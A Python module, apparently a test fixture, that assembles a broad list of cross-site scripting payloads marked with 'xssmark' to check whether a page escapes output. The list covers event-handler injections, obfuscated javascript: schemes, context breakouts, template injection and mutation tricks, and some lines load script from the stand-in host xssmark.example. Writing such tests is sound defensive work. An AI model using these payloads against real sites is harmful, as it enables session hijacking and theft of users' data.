"""Texts that would run on a page that shows them as they are. Each carries MARK where it would take hold."""

MARK = "xssmark"
_RUN = f"alert('{MARK}')"
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter")
_TAGS = (
    ("img", "src=x onerror"), ("svg", "onload"), ("body", "onload"), ("input", "autofocus onfocus"),
    ("video", "src=x onerror"), ("audio", "src=x onerror"), ("details", "open ontoggle"), ("iframe", "onload"),
    ("marquee", "onstart"), ("select", "autofocus onfocus"), ("textarea", "autofocus onfocus"), ("object", "onerror"),
    ("math", "onmouseover"), (f"{MARK}-x", "onclick"), ("style", "onload"), ("link", "rel=stylesheet href=x onerror"),
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "vbscript:",
    "data:text/html,", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "javascript://x%0a",
)  # fmt: skip
_BREAKS = (
    "'", '"', "`", ">", '">', "'>", "-->", "--!>", "]]>", "</script>", "</style>", "</textarea>", "</title>",
    "</option>",
    "</noscript>", "</template>", "</svg>", "*/", "\\", "\\'", '\\"', "${", "{{", "%>", "\r\n\r\n", "\u2028", "\u2029",
    "\x0b", "&quot;>", "&#34;>", "%22>", "\\u003e", "＜", "\u00a0",
)  # fmt: skip


def _payloads() -> list[str]:
    found = [f"<script>{_RUN}</script>", f"<script src=//{MARK}.example></script>", f"<SCRIPT/{MARK}>{_RUN}</SCRIPT>"]
    found += [f"<{tag} {attributes}={_RUN}>" for tag, attributes in _TAGS]
    found += [f"{stop}<script>{_RUN}</script>" for stop in _BREAKS]
    found += [f"{stop} autofocus onfocus={_RUN} x{MARK}=" for stop in ("'", '"', "`", "", "\\'", '\\"')]
    found += [f"{stop}{handler}={_RUN}//" for handler in _HANDLERS for stop in ('" ', "' ")]
    found += [
        f"{stop}<img src=x onerror={_RUN}>" for stop in ('">', "'>", "</script>", "</textarea>", "</title>", "</style>")
    ]
    found += [
        f"{stop}<{MARK}-x>" for stop in ('">', "'>", "-->", "</script>", "</textarea>", "</td>", "</pre>", "</code>")
    ]
    found += [f"{scheme}{_RUN}" for scheme in _SCHEMES]
    found += [f'<a href="{scheme}{_RUN}">{MARK}</a>' for scheme in _SCHEMES]
    found += [f'<form action="javascript:{_RUN}"><button formaction="javascript:{_RUN}">{MARK}</form>']
    found += [f"'-{_RUN}-'", f'"-{_RUN}-"', f"';{_RUN}//", f'";{_RUN}//', f"`${{{_RUN}}}`", f"${{{_RUN}}}"]
    # Templates of others that a page may carry: Alpine, Vue, Angular, htmx, Jinja and Django.
    found += [f"{{{{ {MARK}|safe }}}}", f"{{% {MARK} %}}", f"{{{{constructor.constructor('{_RUN}')()}}}}"]
    found += [f'<div x-data="{_RUN}" x-init="{_RUN}" @click="{_RUN}" hx-get=/{MARK} hx-trigger=load>', f"<%= {_RUN} %>"]
    found += [f"<style>@import '//{MARK}.example'</style>", f"<base href=//{MARK}.example>", f"expression({_RUN})"]
    found += [
        f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
        f"<iframe srcdoc='<script>{_RUN}</script>'>",
    ]
    found += [f"<svg><script>{_RUN}</script></svg>", f"<svg><a xlink:href='javascript:{_RUN}'>{MARK}</a></svg>"]
    found += [
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
        f"<!--<img src=--><img src=x onerror={_RUN}//>",
    ]
    found += [
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
        f"<template><script>{_RUN}</script></template>",
    ]
    found += [
        f"<{MARK}>",
        f"</{MARK}>",
        f"<!{MARK}>",
        f"<?{MARK}?>",
        f"<![CDATA[<script>{_RUN}</script>]]>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    ]
    found += [
        f"＜script＞{_RUN}＜/script＞",
        f"+ADw-script+AD4-{_RUN}",
        f"\x1b[31m<script>{_RUN}</script>",
        f"\u202e<script>{_RUN}</script>",
    ]
    found += [
        f"<a id={MARK} name={MARK}>",
        f"<img name=getElementById id={MARK}>",
        f"<form id={MARK}><input name=action>",
    ]
    found += [f"![{MARK}](javascript:{_RUN})", f"[{MARK}](javascript:{_RUN})", f'=HYPERLINK("javascript:{_RUN}")']
    return found


PAYLOADS = _payloads()
# For a field that is long enough.
ALL = "\n".join(PAYLOADS)
